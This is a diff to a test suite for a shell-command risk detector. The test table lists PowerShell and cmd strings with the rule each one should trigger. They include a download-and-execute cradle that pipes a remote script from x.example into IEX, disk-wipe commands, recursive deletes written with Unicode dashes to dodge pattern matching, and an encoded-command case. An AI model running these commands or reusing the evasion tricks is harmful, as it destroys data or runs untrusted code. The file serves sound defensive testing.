@@ -276,6 +276,11 @@ describe('analyzeShell (through evaluateRiskText with the shell hint)', () => {
       ["(New-Object Net.WebClient).DownloadString('https://x.example/a.ps1') | IEX", 'opaque'],
       ['Format-Volume -DriveLetter C', 'disk-wipe'],
       ['Clear-Disk -Number 0 -RemoveData', 'disk-wipe'],
+      ['Remove-Item \u2013Recurse \u2013Force C:\\data', 'recursive-delete'],
+      ['ri C:\\data \u2014r', 'recursive-delete'],
+      ['pwsh \u2013Command "Remove-Item -Recurse C:\\data"', 'recursive-delete'],
+      ['powershell -c "Remove-Item \u2013Recurse C:\\data"', 'recursive-delete'],
+      ['pwsh \u2013EncodedCommand SQBFAFgA', 'obfuscated'],
     ])('flags the cmd.exe or PowerShell form %s', (text, rule) => {
       expect(rulesOf(text)).toContain(rule);
     });
